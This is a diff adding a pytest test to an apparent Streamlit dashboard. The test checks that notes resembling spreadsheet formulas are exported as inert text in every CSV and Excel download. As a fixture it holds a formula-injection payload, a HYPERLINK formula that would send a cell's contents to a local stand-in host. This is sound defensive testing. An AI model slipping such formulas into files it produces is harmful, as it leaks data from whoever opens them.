@@ -158,3 +158,51 @@ def test_the_review_page_shows_an_uploaded_reports_text_as_written(staff_app):
     assert plain_markdown("![x](http://127.0.0.1:9/x.png)<img src=http://127.0.0.1:9/y.png>") in shown
     assert "<mark>" in shown and "<b>" in shown
     assert not [p.pattern for p in RENDERED if p.search(shown)]
+
+
+FORMULA = '=HYPERLINK("http://127.0.0.1:9/?"&A1,"点此")'
+
+
+def test_every_table_a_page_hands_out_keeps_a_formula_like_note_as_text(tmp_path, monkeypatch):
+    """A note that a spreadsheet would run (=HYPERLINK… sends the sheet away) is written as text, with Excel's own
+    leading apostrophe, in every CSV and Excel file of every page (charts/download.safe_cells)."""
+    import csv
+    import io
+
+    import openpyxl
+    from streamlit.delta_generator import DeltaGenerator
+
+    root = make_hostile_folder(tmp_path / "project")
+    results = root / "data/report_results.csv"
+    rows = pd.read_csv(results, dtype=str, keep_default_na=False)
+    rows["note"], rows["note_en"] = FORMULA, FORMULA
+    rows.to_csv(results, index=False)
+    monkeypatch.setenv("DASHBOARD_ROOT", str(root))
+    st.cache_data.clear()
+    st.cache_resource.clear()
+    handed_out = {}
+    original = DeltaGenerator.download_button
+
+    def recording(self, label, data, file_name=None, *args, **kwargs):
+        handed_out[file_name] = data
+        return original(self, label, data, file_name, *args, **kwargs)
+
+    monkeypatch.setattr(DeltaGenerator, "download_button", recording)
+    for page in VIEWER_PAGES:
+        at = AppTest.from_file(ENTRY, default_timeout=90)
+        at.run()
+        at.switch_page(page.file).run()
+        assert not at.exception, [e.message for e in at.exception]
+    cells = {}
+    for name, data in handed_out.items():
+        content = data() if callable(data) else data
+        if name.endswith(".csv"):
+            cells[name] = [c for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for c in row]
+        elif name.endswith(".xlsx"):
+            sheet = openpyxl.load_workbook(io.BytesIO(content)).active
+            assert not [c for row in sheet.iter_rows() for c in row if c.data_type == "f"], name  # no live formula
+            cells[name] = [c.value for row in sheet.iter_rows() for c in row if isinstance(c.value, str)]
+    assert len(cells) >= 10, sorted(cells)  # every chart's and table's CSV and Excel file
+    live = {name: [c for c in found if c.startswith(("=", "+", "@"))] for name, found in cells.items()}
+    assert not any(live.values()), {n: c[:2] for n, c in live.items() if c}
+    assert any("'" + FORMULA in found for found in cells.values())  # the note itself is there, as text
